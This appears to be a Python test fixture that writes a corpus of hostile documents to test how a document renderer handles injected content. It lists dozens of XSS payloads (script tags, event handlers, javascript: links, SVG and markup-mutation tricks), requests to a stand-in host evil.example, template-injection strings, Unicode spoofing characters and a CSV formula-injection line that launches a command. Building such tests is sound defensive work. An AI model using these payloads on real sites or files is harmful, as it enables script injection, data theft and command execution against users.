"""What people who mean harm write into documents: in names, titles, sections and texts.

Each variant calls ``hacked()`` if it runs, asks ``evil.example`` if it fetches, or tears the page
apart if it is laid out as it would like to be.
"""

import json
import os
import re
from pathlib import Path

from tests import pdfs

EVIL = "https://evil.example"

SCRIPTS = (
    "<script>hacked()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>hacked()</scr</script>ipt>",
    "</script><script>hacked()</script>",
    "<script\n>hacked()</script\n>",
    "<script type=module>import '//evil.example/x.js'</script>",
    "<img src=x onerror=hacked()>",
    "<img src=x onerror='hacked()'//",
    "<img/src=x/onerror=hacked()>",
    '"><img src=x onerror=hacked()>',
    "'><img src=x onerror=hacked()>",
    "<img srcset='//evil.example/a 1x' src=x>",
    "<body onload=hacked()>",
    "<input autofocus onfocus=hacked()>",
    "<select autofocus onfocus=hacked()></select>",
    "<details open ontoggle=hacked()>x</details>",
    "<video><source onerror=hacked()></video>",
    "<audio src=//evil.example/a onloadstart=hacked()></audio>",
    "<marquee onstart=hacked()>x</marquee>",
    "<div onmouseover=hacked() style='position:fixed;inset:0;z-index:9999'>x</div>",
    "<a href=javascript:hacked()>x</a>",
    "<iframe src='javascript:parent.hacked()'></iframe>",
    "<iframe srcdoc='<script>parent.hacked()</script>'></iframe>",
    "<object data='data:text/html,<script>hacked()</script>'></object>",
    "<embed src='//evil.example/x.swf'>",
    "<noscript><p title='</noscript><img src=x onerror=hacked()>'></noscript>",
    "<template><img src=x onerror=hacked()></template>",
    "<textarea></textarea><img src=x onerror=hacked()>",
    "<title></title><img src=x onerror=hacked()>",
    "<xmp><img src=x onerror=hacked()></xmp>",
    "<plaintext>",
    "<!--><img src=x onerror=hacked()>-->",
    "<![CDATA[<script>hacked()</script>]]>",
)
DRAWINGS = (
    "<svg onload=hacked()>",
    "<svg><script>hacked()</script></svg>",
    "<svg><animate onbegin=hacked() attributeName=x dur=1s></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=hacked()>#x'/></svg>",
    "<svg><foreignObject><img src=x onerror=hacked()></foreignObject></svg>",
    "<svg><a xlink:href='javascript:hacked()'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=hacked()>",
    "![x](//evil.example/pixel.png)",
    "![x](x 'onerror=hacked()')",
)
STYLES = (
    "<style>* { display: none !important }</style>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<p style='position:fixed;inset:0;background:url(//evil.example/a)'>x</p>",
    "</style><script>hacked()</script>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><input name=q><button>Ask</button></form>",
    "<form id=desk><input name=assistantPage></form>",
    "<img name=getElementById><img id=assistantWords>",
)
LINKS = (
    "[x](javascript:hacked())",
    "[x](JaVaScRiPt:hacked())",
    "[x](java\tscript:hacked())",
    "[x](&#106;avascript:hacked())",
    "[x](javascript&colon;hacked())",
    "[x](\x01javascript:hacked())".replace("\x01", "\u200b"),
    "[x](vbscript:hacked())",
    "[x](data:text/html;base64,PHNjcmlwdD5oYWNrZWQoKTwvc2NyaXB0Pg==)",
    "[x](//evil.example/)",
    "[x](https:evil.example)",
    '[x](https://evil.example/"onmouseover=hacked\\(\\))',
    "[x](https://evil.example@javascript:hacked())",
    "[x][1] [1]: javascript:hacked()",
    "<javascript:hacked()>",
    "<https://evil.example/'onclick='hacked()>",
    "[<img src=x onerror=hacked()>](https://a.example/)",
    "[](javascript:hacked())",
)
TEMPLATES = (
    "${hacked()} #{hacked()} <%= hacked() %> @{hacked()}",
    "{{hacked()}} {{{hacked()}}} {{#with this}}{{constructor.constructor 'hacked()'}}{{/with}}",
    "`${hacked()}` \\`${hacked()}\\`",
    "$$\\href{javascript:hacked()}{x}$$ \\(\\url{javascript:hacked()}\\)",
    "&lt;script&gt;hacked()&lt;/script&gt; &#60;img src=x onerror=hacked()&#62;",
    "\\u003cimg src=x onerror=hacked()\\u003e %3Cscript%3Ehacked()%3C/script%3E",
    "```html <script>hacked()</script> ```",
    "__proto__ constructor.prototype.hacked",
)
LETTERS = (
    "\u202eexe.txt\u202c\u2066\u2067\u2068 left open",
    "\u200f\u200e\u061c العربية and עברית (in) [brackets] {1}",
    "Z" + "\u0301\u0302\u0303\u0304\u0305" * 60 + " piled up",
    "x" * 900,
    "\U000e0041\U000e0042 tags, \ufeff\u200b\u2060\u180e nothing seen, \ufff9a\ufffab\ufffb",
    "👩‍👩‍👧‍👦" * 40 + "𝕳𝖆𝖈𝖐",
    "\u2028line\u2029paragraph\u0085next",
    "W" * 200 + " " + "\u00a0" * 300 + " ".join("i" * 90),
    "> " * 150 + "deep",
    "|" * 150 + " x " + "|" * 150,
    "*" * 150 + "_" * 150 + "`" * 151,
    "[" * 150 + "x" + "](" * 150,
)
VARIANTS = (*SCRIPTS, *DRAWINGS, *STYLES, *LINKS, *TEMPLATES, *LETTERS)

_NOT_IN_NAMES = re.compile(r"[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069/]")


def ending(number: int) -> str:
    """What stands behind a variant, and has to be seen."""
    return f"Here ends variant {number}."


def write(corpus: Path) -> int:
    """Write a document for each variant, and some in other formats; return how many."""
    corpus.mkdir(parents=True)
    for number, variant in enumerate(VARIANTS):
        (corpus / name(number, variant)).write_text(document(number, variant), "utf-8")
    return len(VARIANTS) + _others(corpus, len(VARIANTS))


def name(number: int, variant: str) -> str:
    """Return a file name with as much of the variant as a name can hold."""
    kept = _NOT_IN_NAMES.sub("", variant) if os.name == "posix" else ""
    return f"{number:03} {kept.encode()[:120].decode('utf-8', 'ignore').strip()}.md"


def document(number: int, variant: str) -> str:
    """Return a document with the variant in its title, publisher, headings and text."""
    line = " ".join(variant.split())
    title = json.dumps(f"Variant {number} {line[:200]}", ensure_ascii=False)
    publisher = json.dumps(line[:200], ensure_ascii=False)
    return (
        f"---\ntitle: {title}\npublisher: {publisher}\nrights: {publisher}\ncountries: [TCD]\n---\n"
        f"\n# {line[:200]}\n\n{variant}\n\n"
        f"| Law | 2019 |\n|---|---|\n| {line[:100].replace('|', '/')} | 1 |\n\n{ending(number)}\n"
    )


def _others(corpus: Path, first: int) -> int:
    """Write hostile documents in formats that have to be read first."""
    attack = "<img src=x onerror=hacked()>"
    said = attack.replace("<", "&lt;")
    page = (
        f"<html><head><title>{said}</title><script>hacked()</script>"
        f"<base href={EVIL}/></head><body onload=hacked()><h1>{said}</h1><p>{said}</p>"
        f"<a href=javascript:hacked()>x</a>{attack}<svg onload=hacked()></svg>"
    )
    files = {
        "page.html": f"{page}<p>{ending(first)}</p></body></html>".encode(),
        "table.csv": f"Law,{attack}\n=cmd|' /C calc'!A0,{ending(first + 1)}\n".encode(),
        "plain.txt": f"{attack}\n\n</pre>{SCRIPTS[0]}\n\n{ending(first + 2)}\n".encode(),
        "pages.pdf": pdfs.flowing(
            pdfs.heading(said), pdfs.text(f"{said} {ending(first + 3)}"), title=f"A title {attack}"
        ),
    }
    for path, data in files.items():
        (corpus / path).write_bytes(data)
    return len(files)
